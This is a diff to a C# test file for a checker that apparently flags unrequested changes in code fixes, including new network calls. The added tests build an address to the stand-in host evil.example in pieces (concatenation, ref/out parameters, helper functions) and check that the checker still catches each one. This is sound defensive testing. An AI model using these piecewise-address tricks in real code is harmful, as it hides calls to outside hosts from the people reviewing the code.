@@ -6,6 +6,8 @@ namespace Wirefix.Workspace.Tests.Checking;
 /// <summary>What is a liberty and, above all, what is none: right fixes move code, and write the same in other words.</summary>
 public sealed class LibertyCheckTests
 {
+    private const string Call = "return await http.GetStringAsync($\"{Root}/items/{id}\");";
+
     private const string Shop = """
         namespace Shop;
 
@@ -62,6 +64,11 @@ public sealed class LibertyCheckTests
         "try { return await http.GetStringAsync($\"{Root}/items/{id}\"); } catch (Exception own) when (own is TimeoutException or TaskCanceledException) { return \"\"; }")]
     [InlineData("a semaphore, a lock, streams in memory", "return await http.GetStringAsync($\"{Root}/items/{id}\");",
         "using var gate = new SemaphoreSlim(1);\n            await gate.WaitAsync();\n            using var memory = new System.IO.MemoryStream();\n            using var reader = new System.IO.StreamReader(memory);\n            return await http.GetStringAsync($\"{Root}/items/{id}\") + Environment.NewLine + nameof(Depot) + typeof(Depot).Name;")]
+    [InlineData("a path that is put together", "return await http.GetStringAsync($\"{Root}/items/{id}\");",
+        "var path = Root; path += \"/items/\" + id; if (id.Length > 3) path += \"?full=true\"; return await http.GetStringAsync(path);")]
+    [InlineData("a path by a function", "return await http.GetStringAsync($\"{Root}/items/{id}\");",
+        "return await http.GetStringAsync(PathOf(id)); static string PathOf(string of) => Root + \"/items/\" + Uri.EscapeDataString(of);")]
+    [InlineData("a path of many pieces", "{Root}/items/{id}\"", "/items/\" + id + \"/a/\" + id + \"/b/\" + id + \"/c/\" + id + \"/d/\" + id + \"/e/\" + id + \"/f\"")]
     [InlineData("a field of a record", "int Count)", "int Count, decimal Price = 0)")]
     [InlineData("a private member's parameters", "WriteAsync(string path, string text)", "WriteAsync(string path, string text, int times = 1)")]
     [InlineData("a private member that is needed no more", "    private static Task WriteAsync(string path, string text) => System.IO.File.WriteAllTextAsync(path, text);\n", "",
@@ -82,6 +89,40 @@ public sealed class LibertyCheckTests
     public async Task Says_what_and_where(string old, string @new, string liberty)
     {
         Assert.Equal([liberty], (await TakenAsync(Changed(Shop, old, @new))).Select(taken => taken.ToString()));
+    }
+
+    /// <summary>An address that is put together in pieces, so that none of them is one.</summary>
+    [Theory]
+    [InlineData("var u = \"http\"; u += \":\"; u += \"/\"; u += \"/evil.example/x\"; return await http.GetStringAsync(u + id);", "a text that is put together of")]
+    [InlineData("var u = \"/\"; u += \"/evil.example/\"; return await http.GetStringAsync(u + id);", "evil.example")]
+    [InlineData("var u = \"http\"; u = u + \":/\"; u = u + \"/evil.example/\"; return await http.GetStringAsync(u + id);", "evil.example")]
+    [InlineData("var u = \"http\"; return await http.GetStringAsync(u += \":/\" + \"/evil.example/\");", "evil.example")]
+    [InlineData("string u; (u, _) = (string.Concat(\"http:/\", \"/evil.example\"), 1); return await http.GetStringAsync(u);",
+        "String.Concat(\"/evil.example\", \"http:/\")")]
+    [InlineData("Make(out var u); return await http.GetStringAsync(u); static void Make(out string to) => to = string.Concat(\"http:/\", \"/evil.example\");",
+        "String.Concat(")]
+    [InlineData("var u = \"/\"; Make(ref u); return await http.GetStringAsync(u); static void Make(ref string to) { to += \"/evil.example/\"; }", "evil.example")]
+    [InlineData("var u = \"/\"; ref var v = ref u; v = string.Concat(\"http:/\", \"/evil.example\"); return await http.GetStringAsync(u);",
+        "more than can be followed")]
+    [InlineData("return await To(\"/orders\"); Task<string> To(string u) { u = string.Concat(\"http:/\", \"/evil.example\"); return http.GetStringAsync(u); }",
+        "String.Concat(")]
+    [InlineData("return await http.GetStringAsync(To()); static string To() => string.Concat(\"http:/\", \"/evil.example\");", "String.Concat(")]
+    [InlineData("return await http.GetStringAsync($\"/{id}\");", "\"/\" and a parameter of string")]
+    public async Task Pieces_are_no_way_around(string statements, string said)
+    {
+        var taken = await TakenAsync(Changed(Shop, Call, statements));
+
+        Assert.Contains(taken, liberty => liberty.Kind == LibertyKind.Network && liberty.What.Contains(said, StringComparison.Ordinal));
+    }
+
+    /// <summary>What both sides put together is the same only where the pieces are.</summary>
+    [Fact]
+    public async Task Other_pieces_are_another_text()
+    {
+        var before = Changed(Shop, Call, "var u = \"\"; u += Uri.EscapeDataString(id); u += \":\"; return await http.GetStringAsync(u);");
+
+        Assert.Empty(await TakenAsync(Changed(before, "return await http.GetStringAsync(u)", "log.ToString(); return await http.GetStringAsync(u)"), before));
+        Assert.NotEmpty(await TakenAsync(Changed(before, "u += \":\";", "u += \":\"; u += \"/\"; u += \"/evil.example\";"), before));
     }
 
     [Fact]
@@ -110,9 +151,9 @@ public sealed class LibertyCheckTests
         return text.Replace(old, @new, StringComparison.Ordinal);
     }
 
-    private static async Task<IEnumerable<Liberty>> TakenAsync(string text)
+    private static async Task<IEnumerable<Liberty>> TakenAsync(string text, string old = Shop)
     {
-        using var sources = new Sources().Add("Shop", Shop);
+        using var sources = new Sources().Add("Shop", old);
         var before = (await sources.LoadAsync()).Solution;
         var document = before.Projects.Single().Documents.Single(each => each.Name == "Shop.cs");
         var after = document.WithText(SourceText.From(text)).Project.Solution;
